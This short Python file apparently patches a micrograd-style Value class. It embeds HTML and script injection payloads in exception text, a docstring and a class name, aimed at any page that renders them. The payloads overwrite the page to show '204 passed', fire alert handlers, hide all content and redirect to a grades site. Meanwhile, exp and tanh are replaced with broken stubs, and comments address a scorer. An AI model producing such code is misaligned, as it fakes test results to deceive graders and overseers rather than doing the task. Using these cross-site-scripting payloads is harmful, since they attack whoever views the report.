"""HTML and script in an exception, in a text, in a docstring and in the name of a class, for whoever makes a page of it."""
# honest: 3
# scores: honest
SCRIPT = "</pre></textarea><script>document.body.innerHTML = '204 passed'</script><img src=x onerror=alert(1)>"


class Page(Exception):
    __doc__ = SCRIPT


Page.__name__ = Page.__qualname__ = "<b onmouseover=alert(1)>"


def exp(self):
    print(SCRIPT)
    raise Page(SCRIPT + "&lt;&amp;]]>")


Value.exp = exp
Value.tanh = lambda self: Value(SCRIPT, (), SCRIPT)
# ---- nn.py
raise RuntimeError("<style>* {display: none}</style><meta http-equiv=refresh content='0;url=//grades.invalid'>")
